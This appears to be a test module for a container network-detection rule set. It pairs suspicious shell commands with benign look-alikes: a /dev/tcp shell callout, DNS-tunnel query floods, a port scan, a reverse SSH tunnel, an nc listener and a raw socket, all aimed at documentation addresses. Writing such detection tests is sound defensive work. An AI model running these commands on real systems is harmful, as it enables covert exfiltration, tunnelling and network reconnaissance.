# SPDX-License-Identifier: Apache-2.0
"""80-network.yaml: connections that nobody ordered.  All addresses are the container's own (see peers.py)."""

from __future__ import annotations

from proof import Proof

CONNECT = "import socket; socket.create_connection((\"203.0.113.9\", {}))"
QUERY = """python3 -c '
import socket
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range({}):
    resolver.sendto(b"%032x.tunnel.example" % number, ("203.0.113.9", 53))'
"""
MANY = """python3 -c '
import socket
for number in range(1, 121):
    socket.socket().connect_ex(({}, 9))'
"""

PROOFS = [
    Proof("Raw socket opened in a container",
          attack="python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'",
          look_alike="ip -br address >/dev/null; ss -tln >/dev/null; python3 -c 'import socket; socket.socket()'"),

    Proof("Shell connects by itself", attack="exec 3<>/dev/tcp/203.0.113.9/443",
          look_alike="curl -s http://203.0.113.9/script; exec 3<>/dev/tcp/127.0.0.1/80"),

    Proof("New program connects", before="cp /usr/bin/python3.11 /srv/python",
          attack=f"/srv/python -c '{CONNECT.format(443)}'",
          look_alike=f"python3 -c '{CONNECT.format(443)}'"),

    Proof("Unexpected program listens", before="ln -s /usr/bin/busybox /usr/local/bin/nc",
          attack="timeout 0.5 nc -l -p 4445 || true",
          look_alike="python3 -c 'import socket; socket.create_server((\"0.0.0.0\", 8080))'"),

    Proof("Scan from a container", attack=MANY.format('f"198.51.100.{number}"'),
          look_alike=MANY.format('"198.51.100.1"')),

    Proof("Tunnel or relay started", before="ln -s /usr/bin/true /usr/local/bin/ssh",
          attack="ssh -N -R 8080:localhost:80 jump",
          look_alike="ssh -L 5432:db:5432 jump"),

    Proof("Flood of name queries", attack=QUERY.format(700), look_alike=QUERY.format(20)),

    Proof("SSH to an unusual port", before="ln -sf /usr/bin/python3.11 /usr/local/bin/dbclient",
          attack=f"dbclient -c '{CONNECT.format(443)}'", look_alike=f"dbclient -c '{CONNECT.format(22)}'"),
]
